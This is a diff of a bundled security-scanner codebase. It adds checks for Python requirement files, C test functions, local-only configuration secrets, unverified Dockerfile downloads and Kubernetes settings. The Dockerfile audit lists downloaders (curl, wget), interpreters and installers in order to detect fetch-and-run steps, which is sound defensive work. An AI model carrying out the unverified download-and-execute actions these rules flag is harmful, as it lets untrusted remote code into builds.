+ * documentation generator (see {@link DEVELOPMENT_TOOL}): nothing installed from them runs where the
+ * project runs. A vulnerable version still reaches developers and CI, so the finding stays, at low
+ * severity.
+ */
+function developmentRequirements(workspace, all) {
+    const files = plainRequirements(workspace, all);
+    if (!files || ![...files.values()].every((names) => names.every((n) => DEVELOPMENT_TOOL.test(n))))
+        return undefined;
+    const tools = [...new Set([...files.values()].flat())];
+    return `it lists developers' and documentation tools only (${tools.slice(0, 4).join(', ')}${tools.length > 4 ? ', ...' : ''}), with no Python package beside it: they run where developers and CI work, nothing installed from it runs where the project runs`;
+}
+/** The name of the Python package the repository root defines (setup.py, setup.cfg, pyproject.toml). */
+function rootPackageName(workspace) {
+    return workspace.memo('deps.root-python-package', '', () => {
+        const pyproject = workspace.text('pyproject.toml');
+        const fromToml = pyproject
+            ? /^\[(?:project|tool\.poetry)\][^[]*?^name\s*=\s*["']([^"']+)["']/m.exec(pyproject)
+            : null;
+        const setupCfg = workspace.text('setup.cfg');
+        const fromCfg = setupCfg ? /^\[metadata\][^[]*?^name\s*=\s*(\S+)/m.exec(setupCfg) : null;
+        const setupPy = workspace.text('setup.py');
+        const fromPy = setupPy ? /\bname\s*=\s*["']([A-Za-z0-9][A-Za-z0-9._-]*)["']/.exec(setupPy) : null;
+        const name = fromToml?.[1] ?? fromCfg?.[1] ?? fromPy?.[1];
+        return name?.toLowerCase().replace(/[_.]+/g, '-');
+    });
+}
+/**
+ * Why pip requirement files pin the project's own package only, when every requirement of the
+ * directory's files names the package the repository root defines (an image that installs the
+ * released project): its version is the project's release, which the release process sets, and an
+ * updater would have no third-party dependency to bump. The finding stays, at low severity.
+ */
+function ownReleasePins(workspace, all) {
+    const files = plainRequirements(workspace, all);
+    if (!files)
+        return undefined;
+    const own = rootPackageName(workspace);
+    if (!own || ![...files.values()].every((names) => names.every((n) => n === own)))
+        return undefined;
+    return `it pins only the project's own package (${own}, defined at the repository root): its version is the project's release, set when the project releases, with no third-party dependency for an updater to bump`;
 }
 /** The npm, Cargo or pub workspace roots whose entry would cover the manifest, nearest first. */
 function workspaceRoots(ws, m) {
@@ -25258,8 +26112,6 @@ function exposedPort(word, forbidden) {
     return undefined;
 }
 
-// EXTERNAL MODULE: external "node:path"
-var external_node_path_ = __nccwpck_require__(6760);
 // EXTERNAL MODULE: ./lib/core/workspace/stream.js
 var stream = __nccwpck_require__(8673);
 ;// CONCATENATED MODULE: ./lib/core/evaluators/secrets/binary-files.js
@@ -26468,16 +27320,21 @@ function definitionHead(text, start, end, m) {
 const TEST_FUNCTION_WORDS = new Set(['test', 'tests', 'unittest', 'fake', 'dummy', 'mock', 'fixture']);
 /** Lines looked back over for the function a value stands in. */
 const FUNCTION_LOOKBACK = 400;
+/** Whether a C function's name is a unit test's: `ut_` first, or a test word (`test_parse`, `TestServer`). */
+function testFunctionName(name) {
+    const words = name
+        .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
+        .toLowerCase()
+        .split('_')
+        .filter(Boolean);
+    return words[0] === 'ut' || words.some((w) => TEST_FUNCTION_WORDS.has(w));
+}
 /**
- * The test function of a C or C++ source that the line at `offset` stands in, or undefined: the
- * nearest function definition before it (a head at column 0: a return type, the name, a parameter
- * list that declares, the body's `{`; see {@link definitionHead}), if no closing `}` at column 0 lies
- * between, and its name is a unit test's (`ut_` first, as unit-test
- * frameworks of C libraries prefix them, or a test word: `test_parse`, `TestServer`).
+ * The C or C++ function definition the line at `offset` stands in, by its head (a return type, the
+ * name, a parameter list that declares, the body's `{`; see {@link definitionHead}), or undefined when
+ * a closing `}` at column 0 lies between (file scope) or none is found within the look-back.
  */
-function enclosingTestFunction(path, text, offset) {
-    if (!C_FAMILY.test(path))
-        return undefined;
+function enclosingFunction(text, offset) {
     let end = offset;
     for (let i = 0; i < FUNCTION_LOOKBACK && end > 0; i++) {
         const start = text.lastIndexOf('\n', end - 2) + 1;
@@ -26486,17 +27343,56 @@ function enclosingTestFunction(path, text, offset) {
             return undefined;
         const m = C_FUNCTION_HEAD.exec(line);
         if (m && !C_STATEMENT_WORDS.test(line) && definitionHead(text, start, end, m)) {
-            const name = m[2];
-            const words = name
-                .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
-                .toLowerCase()
-                .split('_')
-                .filter(Boolean);
-            return words[0] === 'ut' || words.some((w) => TEST_FUNCTION_WORDS.has(w)) ? name : undefined;
+            return { name: m[2], head: start };
         }
         end = start;
     }
     return undefined;
+}
+/** A function's head and the body's `{` on the line of a call in it (`int main(void) { return f(); }`). */
+const ONE_LINE_HEAD = /^(?:[A-Za-z_][\w \t*]{0,120}?[ \t*])?([A-Za-z_]\w{0,127})[ \t]*\([^;{}]{0,400}\)[ \t]*\{/;
+/** Characters after which a call stands as a statement of its own, its value unused. */
+const STATEMENT_START = new Set([';', '{', '}', ')', ':']);
+/**
+ * Whether the file's code outside test functions uses the value of a call of `name` (`serve(name())`,
+ * `k = name();`, `return name();`): the function then hands its data to code that is no test, and its
+ * name says nothing of where that data goes. A call standing as a statement of its own (`name();`, as
+ * a test runner's `main` runs its tests), a reference without a call (`RUN_TEST(name)`, a table of
+ * tests) and a call inside another test function are a test's.
+ */
+function valueUsedOutsideTests(text, name, head) {
+    const call = new RegExp(`\\b${name}[ \\t]*\\(`, 'g');
+    for (let m = call.exec(text); m; m = call.exec(text)) {
+        const lineStart = text.lastIndexOf('\n', m.index - 1) + 1;
+        if (lineStart === head)
+            continue;
+        const before = text.slice(Math.max(0, m.index - 200), m.index).replace(/\s+$/, '');
+        const last = before.at(-1);
+        if (last === undefined || STATEMENT_START.has(last) || /\belse$/.test(before))
+            continue;
+        const oneLine = ONE_LINE_HEAD.exec(text.slice(lineStart, m.index));
+        const caller = oneLine && !C_STATEMENT_WORDS.test(oneLine[1]) ? oneLine[1] : enclosingFunction(text, lineStart)?.name;
+        if (caller && !testFunctionName(caller))
+            return true;
+    }
+    return false;
+}
+/**
+ * The test function of a C or C++ source that the line at `offset` stands in, or undefined: the
+ * nearest function definition before it (see {@link enclosingFunction}), if its name is a unit
+ * test's (`ut_` first, as unit-test frameworks of C libraries prefix them, or a test word:
+ * `test_parse`, `TestServer`) and no code of the file outside test functions uses the value it
+ * returns (see {@link valueUsedOutsideTests}).
+ */
+function enclosingTestFunction(path, text, offset) {
+    if (!C_FAMILY.test(path))
+        return undefined;
+    const fn = enclosingFunction(text, offset);
+    if (!fn || !testFunctionName(fn.name))
+        return undefined;
+    if (!C_TEST_MACROS.has(fn.name) && valueUsedOutsideTests(text, fn.name, fn.head))
+        return undefined;
+    return fn.name;
 }
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/secrets/judge.js
@@ -26692,6 +27588,57 @@ function pathFacts(path) {
     }
     return facts;
 }
+/**
+ * Hosts that reach only the machine the configuration runs on: the loopback names and addresses, and
+ * the public names that resolve to the loopback address for everyone (`*.localtest.me`, `*.lvh.me`).
+ */
+const LOOPBACK_HOST = /^(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|0\.0\.0\.0|\[::1?\])$|(?:^|\.)(?:localhost|localtest\.me|lvh\.me)$/i;
+/**
+ * Hosts that name a service beside the configuration, not a place: a Compose or cluster service
+ * (`http://httpbin`, `x.default.svc.cluster.local`), Docker's name for its host. They say neither
+ * that the environment is local nor that it is not.
+ */
+const NEIGHBOUR_HOST = /^[A-Za-z0-9_-]+$|(?:^|\.)(?:svc|svc\.cluster\.local|cluster\.local)$|^host\.docker\.internal$/i;
+/** An address with a host, in a line: the scheme, then the host (a name or an IPv6 literal). */
+const URL_HOST = /\b[a-z][a-z0-9+.-]*:\/\/(?:[^\s/@'"]*@)?(\[[0-9A-Fa-f:.]+\]|[A-Za-z0-9._-]+)/gi;
+/** The last configuration file judged by {@link localEnvironment}, and the answer. */
+let localPath;
+let localText;
+let localAnswer = false;
+/**
+ * Whether a configuration file names the services it talks to and every one of them is on the
+ * machine it runs on: at least one address (outside comments) is a loopback host, and the others are
+ * loopback hosts or the names of neighbouring services (see {@link NEIGHBOUR_HOST}). The secrets of
+ * such a file (a local demonstration stack's cookie secret, the client secret of the identity
+ * provider the stack brings up itself) open nothing outside that machine. A file that names any
+ * other host (`https://auth.example.org`, an IP address) is not one.
+ */
+function localEnvironment(path, text) {
+    if (path === localPath && text === localText)
+        return localAnswer;
+    let loopback = false;
+    let other = false;
+    for (const line of text.split('\n')) {
+        if (COMMENTED.test(line))
+            continue;
+        URL_HOST.lastIndex = 0;
+        for (let m = URL_HOST.exec(line); m; m = URL_HOST.exec(line)) {
+            const host = m[1];
+            if (LOOPBACK_HOST.test(host))
+                loopback = true;
+            else if (!NEIGHBOUR_HOST.test(host))
+                other = true;
+        }
+        if (other)
+            break;
+    }
+    localPath = path;
+    localText = text;
+    localAnswer = loopback && !other;
+    return localAnswer;
+}
+/** Why a secret of a configuration for the local machine only has low confidence; part of the message. */
+const LOCAL_ENVIRONMENT_NOTE = "every address its configuration file names is on the local machine (loopback hosts and neighbouring services): a local environment's secret, which opens nothing elsewhere";
 /** Values that name or fetch a secret rather than being one. */
 const REFERENCE = /^#\/|^\$[A-Za-z_{(]|^%[A-Za-z_]\w*%$|^@\w+@$|^[&*][A-Za-z_][\w-]*$|^![A-Za-z]|\$\{|process\.env|os\.environ|getenv|secrets\.|vault:|^arn:|^ref\+|^sm:\/\/|^projects\/|:\/\/|^[A-Za-z_][\w.-]*\(/;
 /** A name in the expressions of configuration languages (HCL, JavaScript, Python). */
@@ -26993,7 +27940,8 @@ const genericAssignmentDetector = {
         "default of a parameter expansion in a configuration file (`${DB_PASSWORD:-value}`, or Spring's " +
         // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder syntax this text describes.
         '`${DB_PASSWORD:value}`) is judged as the value. A ' +
-        'UUID under a password name is reported with low confidence: it is usually an identifier.',
+        'UUID under a password name is reported with low confidence: it is usually an identifier; so is a ' +
+        'value in a configuration file whose every address is on the local machine (a local stack).',
     find(line, ctx) {
         const hits = [];
         const { config, translations } = pathFacts(ctx.path);
@@ -27039,6 +27987,11 @@ const genericAssignmentDetector = {
                 }
                 else if (confidence === 'high')
                     confidence = 'medium';
+            }
+            // Read only for a configuration file with a candidate, once per file.
+            if (confidence !== 'low' && config && localEnvironment(ctx.path, ctx.text)) {
+                confidence = 'low';
+                note = LOCAL_ENVIRONMENT_NOTE;
             }
             hits.push({
                 start: assigned.start,
@@ -31887,15 +32840,236 @@ function effectiveUser(model, final) {
     return { stage: final };
 }
 
+;// CONCATENATED MODULE: ./lib/core/evaluators/dockerfile/downloads.js
+const DOWNLOADERS = new Set(['curl', 'wget']);
+/** Programs that check a file against a digest or a signature. */
+const VERIFIERS = new Set([
+    'sha1sum',
+    'sha224sum',
+    'sha256sum',
+    'sha384sum',
+    'sha512sum',
+    'shasum',
+    'md5sum',
+    'b2sum',
+    'cksum',
+    'gpg',
+    'gpgv',
+    'gpg2',
+    'cosign',
+    'minisign',
+    'signify',
+    'slsa-verifier',
+    'sigstore',
+]);
+/** Key, signature and checksum material: what a verification reads, not what it installs. */
+const VERIFICATION_MATERIAL = /(?:\.(?:asc|gpg|sig|sign|pub|key|pem|crt|cer|sha1|sha256|sha512|md5|sha256sum|sha512sum|minisig|sigstore|intoto\.jsonl)|\/(?:KEYS|SHA\d*SUMS(?:\.txt)?|[\w.-]*checksums?[\w.-]*))$/i;
+/** Archive extractors that take the download from a pipe or as a file. */
+const EXTRACTORS = new Set(['tar', 'bsdtar', 'unzip', '7z', '7za']);
+/** Package installers that take a file. */
+const PACKAGE_INSTALLERS = new Set([
+    'dpkg',
+    'rpm',
+    'apk',
+    'apt',
+    'apt-get',
+    'yum',
+    'dnf',
+    'zypper',
+    'pip',
+    'pip3',
+    'gem',
+]);
+/** Interpreters that run a script file they are given. */
+const downloads_INTERPRETERS = /^(?:(?:ba|da|z|k|mk|a)?sh|python[0-9.]*|perl|ruby|node|php|java)$/;
+const URL_WORD = /^https?:\/\//i;
+/** Commands after a download looked at for its use: a bound on the work per download. */
+const LOOK_AHEAD = 400;
+function args(view) {
+    return view.command.words.slice(view.nameIndex + 1);
+}
+/** The last path segment of a URL, without its query or fragment. */
+function urlName(url) {
+    return (url
+        .replace(/[?#].*$/, '')
+        .split('/')
+        .filter(Boolean)
+        .pop() ?? '');
+}
+/** The file a curl or wget command writes its download to, `-` for standard output, undefined if unknown. */
+function outputOf(view, url) {
+    const words = args(view).map((w) => w.value);
+    const redirect = view.command.redirects.find((r) => (r.op === '>' || r.op === '>|') && r.target);
+    if (view.name === 'curl') {
+        for (let i = 0; i < words.length; i++) {
+            const w = words[i];
+            if (w === '--output' || w === '-o')
+                return words[i + 1];
+            if (w.startsWith('--output='))
+                return w.slice('--output='.length);
+            // Short options together: `-fsSLo file`, `-ofile`.
+            const short = /^-([A-Za-z]*)o(.*)$/.exec(w);
+            if (short && !w.startsWith('--'))
+                return short[2] !== '' ? short[2] : words[i + 1];
+        }
+        if (words.some((w) => w === '--remote-name' || w === '--remote-name-all' || /^-[A-Za-z]*O[A-Za-z]*$/.test(w)))
+            return urlName(url);
+        return redirect?.target?.value ?? '-';
+    }
+    for (let i = 0; i < words.length; i++) {
+        const w = words[i];
+        if (w === '-O' || w === '--output-document')
+            return words[i + 1];
+        if (w.startsWith('--output-document='))
+            return w.slice('--output-document='.length);
+        const short = /^-([A-Za-z]*)O(.*)$/.exec(w);
+        if (short && !w.startsWith('--'))
+            return short[2] !== '' ? short[2] : words[i + 1];
+    }
+    const prefix = words.findIndex((w) => w === '-P' || w === '--directory-prefix');
+    const dir = prefix >= 0 ? words[prefix + 1] : undefined;
+    return dir ? `${dir.replace(/\/+$/, '')}/${urlName(url)}` : urlName(url);
+}
+/** The command a pipeline stage feeds, at its own depth. */
+function pipeReader(views, index) {
+    const c = views[index].command;
+    if (c.next !== '|' && c.next !== '|&')
+        return undefined;
+    for (let j = index + 1; j < views.length && j < index + 64; j++) {
+        const next = views[j];
+        if (next.command.depth !== c.depth || next.command.parent !== c.parent)
+            continue;
+        return next;
+    }
+    return undefined;
+}
+/** Whether a `chmod` mode sets an execute bit: `+x`, `u+x`, `a+rx`, `755`, `0755`. */
+function executableMode(mode) {
+    if (/^[0-7]{3,4}$/.test(mode))
+        return /[1357]/.test(mode.slice(-3));
+    return /^[ugoa]*[+=][rwXxst]*x/.test(mode);
+}
+/** Whether `word` names the file `file` (the same path, or the same name in the current folder). */
+function names(word, file) {
+    const w = word.replace(/^\.\//, '');
+    const f = file.replace(/^\.\//, '');
+    if (w === f)
+        return true;
+    // `cd /tmp && curl -o x ... && chmod +x /tmp/x`, or a download named bare and used by its path.
+    const base = f.split('/').pop();
+    return base.length > 2 && (w.endsWith(`/${base}`) || f.endsWith(`/${w}`));
+}
+/**
+ * How a command uses `file` as an installed or run program, or undefined: unpacked, made executable,
+ * installed as a package, copied into place by `install`, or run. `moved` names where `mv`/`cp`/
+ * `install` put it, so later uses of that path count.
+ */
+function useOf(view, file) {
+    const words = args(view).map((w) => w.value);
+    const operands = words.filter((w) => !w.startsWith('-'));
+    const named = operands.some((w) => names(w, file)) || words.some((w) => names(w.replace(/^-[A-Za-z]*f/, ''), file));
+    const program = view.command.words[view.nameIndex]?.value ?? '';
+    if (program !== '' && names(program, file) && program.includes('/'))
+        return { use: 'run' };
+    if (!named)
+        return {};
+    switch (view.name) {
+        case 'chmod':
+            return operands.length > 1 && executableMode(operands[0]) ? { use: 'made executable' } : {};
+        case 'install':
+            return { use: 'installed', moved: operands.at(-1) };
+        case 'mv':
+        case 'cp':
+            return operands.length === 2 && names(operands[0], file)
+                ? { moved: operands[1].endsWith('/') ? `${operands[1]}${file.split('/').pop()}` : operands[1] }
+                : {};
+    }
+    if (EXTRACTORS.has(view.name))
+        return { use: 'unpacked' };
+    if (PACKAGE_INSTALLERS.has(view.name))
+        return { use: 'installed' };
+    if (downloads_INTERPRETERS.test(view.name))
+        return { use: 'run' };
+    return {};
+}
+/**
+ * The downloads in a stage's RUNs (`runs`, each RUN's commands) that are unpacked, made executable,
+ * installed or run with no checksum or signature check after the download and before that use.
+ * Keys, signatures and checksum files are verification material, not reported; a download piped into
+ * a shell is `pipe-to-shell`'s.
+ */
+function unverifiedDownloads(runs) {
+    const all = [];
+    runs.forEach((views, run) => {
+        views.forEach((view, index) => {
+            const text = view.command.words.map((w) => w.value).join('\n');
+            all.push({ run, view, index, text });
+        });
+    });
+    const out = [];
+    for (let i = 0; i < all.length; i++) {
+        const { run, view, index } = all[i];
+        if (!DOWNLOADERS.has(view.name))
+            continue;
+        const url = args(view).find((w) => URL_WORD.test(w.value))?.value;
+        if (!url || VERIFICATION_MATERIAL.test(url.replace(/[?#].*$/, '')))
+            continue;
+        const offset = view.command.words[view.nameIndex].start;
+        const output = outputOf(view, url);
+        if (output === undefined)
+            continue;
+        if (output === '-' || output === '/dev/stdout') {
+            const reader = pipeReader(runs[run], index);
+            if (reader && EXTRACTORS.has(reader.name)) {
+                out.push({ run, offset, file: urlName(url), use: 'unpacked', url });
+            }
+            continue;
+        }
+        if (VERIFICATION_MATERIAL.test(output))
+            continue;
+        let paths = [output];
+        for (let j = i + 1; j < all.length && j <= i + LOOK_AHEAD; j++) {
+            const later = all[j].view;
+            if (VERIFIERS.has(later.name))
+                break;
+            // Most commands name none of the paths: a text test before the word-by-word reading.
+            if (!paths.some((p) => all[j].text.includes(p.split('/').pop())))
+                continue;
+            // Downloaded again to the same path: that download replaces this one and is judged itself.
+            if (DOWNLOADERS.has(later.name)) {
+                const again = args(later).find((w) => URL_WORD.test(w.value))?.value;
+                if (again && paths.includes(outputOf(later, again) ?? ''))
+                    break;
+            }
+            if (later.name === 'openssl' && args(later).some((w) => w.value === 'dgst'))
+                break;
+            if (later.name === 'gh' && args(later).some((w) => w.value === 'attestation'))
+                break;
+            const found = paths.map((p) => useOf(later, p)).find((u) => u.use || u.moved);
+            if (!found)
+                continue;
+            if (found.moved && paths.length < 8)
+                paths = [...paths, found.moved];
+            if (found.use) {
+                out.push({ run, offset, file: output, use: found.use, url });
+                break;
+            }
+        }
+    }
+    return out;
+}
+
 ;// CONCATENATED MODULE: ./lib/core/evaluators/dockerfile/run-command.js
 
 
 
 
+
+
 /** The RUN audits this evaluator implements (`check.with.audit`). */
-const RUN_AUDITS = ['pipe-to-shell', 'sudo'];
+const RUN_AUDITS = ['pipe-to-shell', 'sudo', 'download-unverified'];
 /** Programs that download. */
-const DOWNLOADERS = new Set(['curl', 'wget']);
+const run_command_DOWNLOADERS = new Set(['curl', 'wget']);
 /** Programs that run a script read from their standard input (or from a substituted file). */
 const run_command_INTERPRETERS = /^(?:(?:ba|da|z|k|mk|a)?sh|python[0-9.]*|perl|ruby|node|php|pwsh|source|\.|eval)$/;
 /**
@@ -31911,7 +33085,7 @@ function pipedDownloads(views) {
     const out = [];
     let byCommand;
     views.forEach((view, i) => {
-        if (!DOWNLOADERS.has(view.name))
+        if (!run_command_DOWNLOADERS.has(view.name))
             return;
         const at = view.command.words[view.nameIndex].start;
         const reader = pipelineReader(views, i);
@@ -31971,13 +33145,16 @@ const MESSAGES = {
 const dockerfileRunCommand = (0,types/* defineEvaluator */.D)({
     kind: 'dockerfile.run-command',
     scope: 'file',
-    summary: 'Dockerfile RUN commands that pipe a download into a shell (pipe-to-shell) or use sudo.',
+    summary: 'Dockerfile RUN commands that pipe a download into a shell (pipe-to-shell), use sudo, or use a download with no checksum or signature check (download-unverified).',
     schema: {
         type: 'object',
         additionalProperties: false,
         required: ['audit'],
         properties: {
-            audit: { enum: [...RUN_AUDITS], description: 'Which command audit: pipe-to-shell or sudo.' },
+            audit: {
+                enum: [...RUN_AUDITS],
+                description: 'Which command audit: pipe-to-shell, sudo or download-unverified.',
+            },
         },
     },
     evaluate({ options, workspace }) {
@@ -31991,17 +33168,29 @@ const dockerfileRunCommand = (0,types/* defineEvaluator */.D)({
             const model = readDockerfile(workspace, file);
             if (!model)
                 continue;
+            // A development environment's image (see dev-environment.ts) ships nowhere: a download piped to
+            // a shell, or installed unverified, there runs on a developer's machine, reported at low
+            // confidence and why.
+            const devNote = options.audit !== 'sudo' ? developmentEnvironmentNote(workspace, model) : undefined;
+            if (options.audit === 'download-unverified') {
+                findings.push(...downloadFindings(file, model, devNote));
+                continue;
+            }
+            const audit = options.audit;
             for (const stage of model.stages) {
                 for (const run of stage.runs) {
                     const views = runCommands(run);
                     // sudo is one finding per RUN, at its first use: the step is what runs as another user.
-                    const at = options.audit === 'sudo' ? sudoAt(views).slice(0, 1) : pipedDownloads(views);
+                    const at = audit === 'sudo' ? sudoAt(views).slice(0, 1) : pipedDownloads(views);
                     for (const index of at) {
                         const at = positionInRun(model, run, index);
                         findings.push({
-                            message: MESSAGES[options.audit],
+                            message: devNote
+                                ? `${MESSAGES[audit]} The image is a development environment's (${devNote}).`
+                                : MESSAGES[audit],
                             location: { path: file, startLine: at.line, startColumn: at.column, endLine: at.line },
-                            key: `${options.audit}:${run.value.slice(index, index + 120).replace(/\s+/g, ' ')}`,
+                            key: `${audit}:${run.value.slice(index, index + 120).replace(/\s+/g, ' ')}`,
+                            ...(devNote ? { confidence: 'low' } : {}),
                         });
                     }
                 }
@@ -32010,6 +33199,41 @@ const dockerfileRunCommand = (0,types/* defineEvaluator */.D)({
         return findings;
     },
 });
+/** What a RUN does with a download, as the finding's message says it. */
+const DOWNLOAD_USES = {
+    unpacked: 'unpacks it',
+    'made executable': 'makes it executable',
+    installed: 'installs it',
+    run: 'runs it',
+};
+/**
+ * Findings of `download-unverified`: each download a stage's RUNs unpack, make executable, install
+ * or run with no checksum or signature check in between, at the downloader's line. A download over
+ * plain HTTP is high: anyone on the path chooses what the image gets.
+ */
+function downloadFindings(file, model, devNote) {
+    const findings = [];
+    for (const stage of model.stages) {
+        const runs = stage.runs.map((run) => runCommands(run));
+        for (const d of unverifiedDownloads(runs)) {
+            const at = positionInRun(model, stage.runs[d.run], d.offset);
+            const plain = /^http:/i.test(d.url);
+            const host = /^https?:\/\/([^/\s]{1,200})/i.exec(d.url)?.[1] ?? 'the web';
+            const what = d.file !== '' && !/[\s'"`]/.test(d.file) ? `\`${d.file}\`` : `a file from ${host}`;
+            findings.push({
+                message: `RUN downloads ${what}${plain ? ' over plain HTTP' : ''} and ${DOWNLOAD_USES[d.use]} with no checksum ` +
+                    'or signature check: whatever the server returns at build time goes into the image. Verify it ' +
+                    'against a pinned digest (`sha256sum -c`) or its signature before using it.' +
+                    (devNote ? ` The image is a development environment's (${devNote}).` : ''),
+                location: { path: file, startLine: at.line, startColumn: at.column, endLine: at.line },
+                key: `download-unverified:${d.url.slice(0, 200)}`,
+                ...(plain ? { severity: 'high' } : {}),
+                ...(devNote ? { confidence: 'low' } : {}),
+            });
+        }
+    }
+    return findings;
+}
 /** Offsets in the RUN where a command runs through `sudo` (`sudo apt-get`, `env X=1 sudo -E make`). */
 function sudoAt(views) {
     const out = [];
@@ -33381,14 +34605,14 @@ function capabilities_normalise(cap) {
  * (what allowPrivilegeEscalation: false sets) does not honour.
  */
 function capabilities_unusedCapabilities(c) {
-    if (containerSetting(c, 'allowPrivilegeEscalation')?.value !== false)
+    if (k8sBoolean(c.pod.object, containerSetting(c, 'allowPrivilegeEscalation')) !== false)
         return undefined;
     const user = containerSetting(c, 'runAsUser') ?? podSetting(c.pod, 'runAsUser');
     if (user !== undefined) {
         return typeof user.value === 'number' && user.value > 0 ? `runAsUser: ${user.value}` : undefined;
     }
     const nonRoot = containerSetting(c, 'runAsNonRoot') ?? podSetting(c.pod, 'runAsNonRoot');
-    return nonRoot?.value === true ? 'runAsNonRoot: true' : undefined;
+    return k8sBoolean(c.pod.object, nonRoot) === true ? 'runAsNonRoot: true' : undefined;
 }
 /**
  * `k8s.capabilities`: Linux capabilities of containers. With `forbiddenAdd`, each listed capability
@@ -33714,6 +34938,10 @@ const host_namespaces_FIELDS = {
         effect: "it shares the node's IPC namespace and can read other processes' shared memory",
     },
 };
+/** `hostNetwork: true`, or as written with what Kubernetes reads it as: `hostNetwork: yes (true)`. */
+function setTo(field, node) {
+    return node.value === true ? `${field}: true` : `${field}: ${String(node.value)} (true to Kubernetes)`;
+}
 /**
  * Flags pod specs that share a host namespace (`hostNetwork`, `hostPID`, `hostIPC: true`), which
  * removes the isolation between the pod and the node.
@@ -33740,9 +34968,11 @@ const k8sHostNamespaces = (0,types/* defineEvaluator */.D)({
             for (const ns of options.namespaces) {
                 const { field, effect } = host_namespaces_FIELDS[ns];
                 const node = childAt(pod.object, pod.node, field);
-                if (node?.value !== true)
+                if (!node || k8sBoolean(pod.object, node) !== true)
                     continue;
-                findings.push(findingAt(pod, node, `${describeObject(pod.object)} sets ${field}: true: ${effect}.`, [field]));
+                findings.push(findingAt(pod, node, `${describeObject(pod.object)} sets ${setTo(field, node)}: ${effect}.`, [
+                    field,
+                ]));
             }
         }
         return findings;
@@ -33753,6 +34983,34 @@ const k8sHostNamespaces = (0,types/* defineEvaluator */.D)({
 
 
 
+/**
+ * How the containers of a pod (its init, regular and ephemeral containers) mount each volume, by
+ * name. Undefined when that cannot be told: a container's `volumeMounts` that is not a list, or a
+ * mount whose name is not written out (a template), may mount any volume read-write.
+ */
+function mountUses(pod) {
+    const uses = new Map();
+    for (const c of containersOf(pod)) {
+        const mounts = c.node.value.volumeMounts;
+        if (mounts === undefined || mounts === null)
+            continue;
+        if (!Array.isArray(mounts))
+            return undefined;
+        for (const mount of mounts) {
+            if (!k8s_isMap(mount))
+                continue;
+            if (typeof mount.name !== 'string' || mount.name.includes('{{'))
+                return undefined;
+            const use = mount.readOnly === true ? 'read-only' : 'writable';
+            if (uses.get(mount.name) !== 'writable')
+                uses.set(mount.name, use);
+        }
+    }
+    return (volume) => uses.get(volume) ?? 'unmounted';
+}
+/** Why a hostPath volume that no container mounts is reported low; part of its message. */
+const UNMOUNTED_NOTE = 'no container, init container or ephemeral container of the pod mounts it, so it gives no access as committed: ' +
+    'it is dead configuration to remove, and the change that mounts it makes the gap real';
 /**
  * Flags `hostPath` volumes. A hostPath mount exposes the node's file system to the pod: the container
  * runtime socket, kubelet credentials or `/` itself are a step away from controlling the node.
@@ -33779,6 +35037,7 @@ const k8sHostPath = (0,types/* defineEvaluator */.D)({
             const volumes = pod.node.value.volumes;
             if (!Array.isArray(volumes))
                 continue;
+            const useOf = mountUses(pod);
             volumes.forEach((volume, i) => {
                 if (!k8s_isMap(volume) || !k8s_isMap(volume.hostPath))
                     return;
@@ -33790,8 +35049,23 @@ const k8sHostPath = (0,types/* defineEvaluator */.D)({
                     return;
                 const name = typeof volume.name === 'string' ? ` "${volume.name}"` : '';
                 const where = hostPath ? ` of the node's ${JSON.stringify(hostPath)}` : '';
-                findings.push(findingAt(pod, node, `${describeObject(pod.object)} mounts volume${name} as a hostPath${where}: the pod can read or ` +
-                    'change files of the node it runs on.', ['hostPath', hostPath], 'key'));
+                // A volume without a name cannot be mounted; one whose name or mounts cannot be told (a
+                // template) may be mounted read-write.
+                const use = typeof volume.name !== 'string'
+                    ? 'unmounted'
+                    : useOf === undefined || volume.name.includes('{{')
+                        ? 'writable'
+                        : useOf(volume.name);
+                if (use === 'unmounted') {
+                    const finding = findingAt(pod, node, `${describeObject(pod.object)} declares volume${name} as a hostPath${where}, but ${UNMOUNTED_NOTE}.`, ['hostPath', hostPath], 'key');
+                    findings.push({ ...finding, severity: 'low', confidence: 'low' });
+                    return;
+                }
+                findings.push(findingAt(pod, node, use === 'read-only'
+                    ? `${describeObject(pod.object)} mounts volume${name} as a hostPath${where}, read-only in every ` +
+                        'container that mounts it: the pod can read files of the node it runs on.'
+                    : `${describeObject(pod.object)} mounts volume${name} as a hostPath${where}: the pod can read or ` +
+                        'change files of the node it runs on.', ['hostPath', hostPath], 'key'));
             });
         }
         return findings;
@@ -33814,7 +35088,7 @@ const k8sHostPort = (0,types/* defineEvaluator */.D)({
     evaluate({ workspace }) {
         const findings = [];
         for (const pod of examinedPods(workspace)) {
-            if (childAt(pod.object, pod.node, 'hostNetwork')?.value === true)
+            if (k8sBoolean(pod.object, childAt(pod.object, pod.node, 'hostNetwork')) === true)
                 continue;
             for (const c of containersOf(pod)) {
                 const ports = c.node.value.ports;
@@ -34264,7 +35538,7 @@ const k8sPrivilegeEscalation = (0,types/* defineEvaluator */.D)({
             if (isPrivileged(c))
                 return;
             const setting = containerSetting(c, 'allowPrivilegeEscalation');
-            if (setting?.value === false)
+            if (k8sBoolean(c.pod.object, setting) === false)
                 return;
             const what = describeContainer(c);
             if (setting) {
@@ -34302,7 +35576,7 @@ const k8sPrivileged = (0,types/* defineEvaluator */.D)({
         const findings = [];
         eachContainer(workspace, (c) => {
             const privileged = containerSetting(c, 'privileged');
-            if (privileged?.value !== true)
+            if (!privileged || k8sBoolean(c.pod.object, privileged) !== true)
                 return;
             findings.push(containerFinding(c, privileged, `The ${describeContainer(c)} runs privileged: it gets every capability and the host's devices, ` +
                 'so whoever runs code in it controls the node.', 'privileged'));
@@ -34377,9 +35651,9 @@ const k8sRbac = (0,types/* defineEvaluator */.D)({
         // What the audit judges: bindings (cluster-admin) or roles (wildcard); a tree of neither gives it
         // nothing to pass on.
         const subjects = [];
-        for (const object of k8sObjects(workspace)) {
-            if (apiGroup(object.apiVersion) !== RBAC_GROUP)
-                continue;
+        const rbac = k8sObjects(workspace).filter((object) => apiGroup(object.apiVersion) === RBAC_GROUP);
+        noteKindFixtures(workspace, rbac);
+        for (const object of rbac) {
             const at = { object };
             if (options.audit === 'cluster-admin') {
                 if (object.kind !== 'RoleBinding' && object.kind !== 'ClusterRoleBinding')
@@ -34450,7 +35724,7 @@ const k8sReadOnlyRootFs = (0,types/* defineEvaluator */.D)({
                 continue;
